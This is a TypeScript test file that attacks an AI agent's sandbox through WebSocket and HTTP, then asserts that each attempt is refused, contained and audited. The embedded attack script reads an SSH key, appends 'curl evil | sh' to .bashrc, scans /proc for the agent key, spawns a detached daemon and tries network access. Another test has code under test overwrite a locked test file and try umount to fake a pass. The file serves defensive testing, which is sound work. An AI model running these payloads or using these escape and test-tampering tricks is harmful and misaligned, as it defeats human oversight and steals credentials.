/**
 * SPEC §11 attacks performed through the real wire (WebSocket and HTTP) against a real
 * coordinator and sidecar: test code the agent wrote in TDD, executed by run_tests, tries
 * every door the sandbox closes. Each attack is shown refused or contained, and audited.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AGENT_KEY, PLAN, REPO_CONTRACT, startStack, walkToImpl, type RawAgent, type Stack } from '../sidecar/stack.js';
import { hostProcessesWith } from './helpers.js';

let stack: Stack;
let agent: RawAgent;
let home: string;
let server: Server;
let port: number;
const made: string[] = [];

beforeEach(async () => {
  server = createServer((c) => c.end('HOST-SERVICE'));
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  port = (server.address() as { port: number }).port;
});
afterEach(async () => {
  await stack?.close();
  server.close();
  for (const p of made.splice(0)) rmSync(p, { recursive: true, force: true });
});

/** A home with a canary key, made before the sidecar starts so that its sandbox hides it. */
async function startWithHome(contractFile?: string): Promise<void> {
  const base = join('/tmp', `pg-sbx-home-${process.pid}-${Date.now()}`);
  home = join(base, 'home');
  made.push(base);
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'CANARY-PRIVATE-KEY');
  stack = await startStack({ sidecar: { sandboxOptions: { home } }, ...(contractFile === undefined ? {} : { contractFile }) });
  await stack.addTask();
  agent = await stack.connect();
}

async function toTdd(): Promise<string> {
  const claim = await agent.ok('task.claim', {});
  await agent.ok('tool.call', { token: claim.token, tool: 'write_file', args: { path: 'docs/plans/plan.md', content: '# plan\n' } });
  const tdd = await agent.ok('task.transition', { token: claim.token, target_phase: 'TDD', artifacts: { plan: PLAN } });
  return tdd.token as string;
}

/** The attacking test file: every line tries a door and prints what happened. */
function attackTest(marker: string): string {
  return `const fs = require('fs'); const net = require('net'); const cp = require('child_process');
const out = (k, v) => console.log(k + '=' + v);
const tryIt = (k, f) => { try { out(k, f()); } catch (e) { out(k, e.code || e.message); } };
tryIt('src', () => { fs.writeFileSync('src/app.js', 'module.exports = { add: (a, b) => a + b };'); return 'written'; });
tryIt('pkg', () => { fs.writeFileSync('package.json', '{}'); return 'written'; });
tryIt('outside', () => { fs.writeFileSync('../outside/pwned.txt', 'x'); return 'written'; });
tryIt('outside_read', () => fs.readFileSync('../outside/secret.txt', 'utf8'));
tryIt('home_key', () => fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519', 'utf8'));
tryIt('bashrc', () => { fs.appendFileSync(process.env.HOME + '/.bashrc', 'curl evil | sh'); return 'appended'; });
tryIt('sidecar_environ', () => fs.readFileSync('/proc/${process.pid}/environ', 'utf8').includes('PHASEGATE'));
let leaked = false; for (const p of fs.readdirSync('/proc')) { try { if (fs.readFileSync('/proc/' + p + '/environ', 'utf8').includes('${AGENT_KEY}')) leaked = true; } catch {} }
out('key_leak', leaked);
fs.mkdirSync('tests/__snapshots__', { recursive: true });
fs.writeFileSync('tests/__snapshots__/add.snap', 'exports[\\'add\\'] = 5;\\n');
cp.spawn('sh', ['-c', 'sleep 1; echo late > tests/late.txt; exec sleep 30 # ${marker}'], { detached: true, stdio: 'ignore' }).unref();
const s = net.connect(${port}, '127.0.0.1');
s.on('data', (d) => { out('net', String(d)); done(); });
s.on('error', (e) => { out('net', e.code); done(); });
function done() { console.log('0 passed, 1 failed'); process.exit(1); }
`;
}

function lines(output: string): Record<string, string> {
  return Object.fromEntries(output.split('\n').filter((l) => l.includes('=')).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
}

async function httpTool(token: string, tool: string, args: unknown): Promise<{ status: number; body: any }> {
  const res = await fetch(`${stack.sidecar.httpUrl}/api/v1/tools/execute`, {
    method: 'POST',
    headers: { authorization: `Bearer ${AGENT_KEY}`, 'content-type': 'application/json' },
    body: JSON.stringify({ phase_token: token, tool_name: tool, args }),
  });
  return { status: res.status, body: await res.json() };
}

describe('sandbox attacks through the wire', () => {
  for (const surface of ['ws', 'http'] as const) {
    it(`TDD test code run by run_tests (${surface}): src/ and protected writes discarded, outside and home invisible, no daemon, no network; the snapshot is applied`, async () => {
      await startWithHome();
      const token = await toTdd();
      const marker = `pgattack${process.pid}${surface}${Date.now()}`;
      await agent.ok('tool.call', { token, tool: 'write_file', args: { path: 'tests/run.js', content: attackTest(marker) } });
      const result = surface === 'ws'
        ? await agent.ok('tool.call', { token, tool: 'run_tests', args: {} })
        : (await httpTool(token, 'run_tests', {})).body.result;
      const seen = lines(result.output);
      expect(seen).toMatchObject({ src: 'written', pkg: 'written', outside: 'ENOENT', outside_read: 'ENOENT', home_key: 'ENOENT', bashrc: 'appended', key_leak: 'false', net: 'ECONNREFUSED' });
      expect(['ENOENT', 'false']).toContain(seen.sidecar_environ);
      expect(result).toMatchObject({ exit_code: 1, failed: 1 });

      // The change review: decided like write_file in TDD (test globs only; package.json protected).
      expect(result.changes.applied).toEqual(['tests/__snapshots__/add.snap']);
      expect(result.changes.refused).toEqual([{ path: 'package.json', reason: 'path_not_permitted' }, { path: 'src/app.js', reason: 'path_not_permitted' }]);
      expect(readFileSync(join(stack.workspace, 'src/app.js'), 'utf8')).toContain('a - b');
      expect(readFileSync(join(stack.workspace, 'tests/__snapshots__/add.snap'), 'utf8')).toContain('= 5');
      expect(existsSync(join(stack.outside, 'pwned.txt'))).toBe(false);
      expect(existsSync(join(home, '.bashrc'))).toBe(false);

      // No process of the call survives it; the daemon's later write never lands.
      expect(hostProcessesWith(marker)).toEqual([]);
      await new Promise((ok) => setTimeout(ok, 1500));
      expect(existsSync(join(stack.workspace, 'tests/late.txt'))).toBe(false);

      // Audit: one change record per file, between the call's `call` and `result` records.
      const records = await stack.audit();
      const call = records.find((r) => r.type === 'call' && r.tool === 'run_tests');
      const mine = records.filter((r) => r.call_id === call?.call_id);
      expect(mine.map((r) => r.type)).toEqual(['call', 'change', 'change', 'change', 'result']);
      const changes = mine.filter((r) => r.type === 'change').map((r) => ({ ...(r.args as object), decision: r.decision, reason: r.reason }));
      expect(changes).toEqual([
        expect.objectContaining({ path: 'package.json', change: 'modified', decision: 'deny', reason: 'path_not_permitted', bytes: 2 }),
        expect.objectContaining({ path: 'src/app.js', change: 'modified', decision: 'deny', reason: 'path_not_permitted' }),
        expect.objectContaining({ path: 'tests/__snapshots__/add.snap', change: 'created', decision: 'allow', reason: null, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }),
      ]);
    });
  }

  it('in IMPL the locked test file is read-only inside the sandbox: code under test cannot rewrite it', async () => {
    stack = await startStack();
    await stack.addTask();
    agent = await stack.connect();
    const { token } = await walkToImpl(agent);
    const before = readFileSync(join(stack.workspace, 'tests/run.js'), 'utf8');
    const src = `const fs = require('fs');
try { fs.writeFileSync(__dirname + '/../tests/run.js', 'console.log("1 passed, 0 failed")'); console.log('lock=written'); } catch (e) { console.log('lock=' + e.code); }
try { require('child_process').execFileSync('umount', [__dirname + '/../tests/run.js'], { stdio: 'ignore' }); console.log('umount=done'); } catch { console.log('umount=refused'); }
module.exports = { add: (a, b) => a + b };\n`;
    await agent.ok('tool.call', { token, tool: 'write_file', args: { path: 'src/app.js', content: src } });
    const result = await agent.ok('tool.call', { token, tool: 'run_tests', args: {} });
    expect(lines(result.output)).toMatchObject({ lock: 'EROFS', umount: 'refused' });
    expect(result).toMatchObject({ exit_code: 0, passed: 1, changes: { applied: [], refused: [] } });
    expect(readFileSync(join(stack.workspace, 'tests/run.js'), 'utf8')).toBe(before);
  });

  it('a phase with sandbox.network: true reaches the host loopback; the default phase does not', async () => {
    const text = readFileSync(REPO_CONTRACT, 'utf8').replace(
      /(\n {6}TDD:\n {8}description: >-)/,
      '\n      TDD:\n        sandbox:\n          network: true\n        description: >-',
    );
    expect(text).toContain('network: true');
    const file = join('/tmp', `pg-net-contract-${process.pid}-${Date.now()}.yaml`);
    writeFileSync(file, text);
    made.push(file);
    await startWithHome(file);
    const token = await toTdd();
    await agent.ok('tool.call', { token, tool: 'write_file', args: { path: 'tests/run.js', content: attackTest(`pgnet${Date.now()}`) } });
    const result = await agent.ok('tool.call', { token, tool: 'run_tests', args: {} });
    expect(lines(result.output).net).toBe('HOST-SERVICE');
  });
});
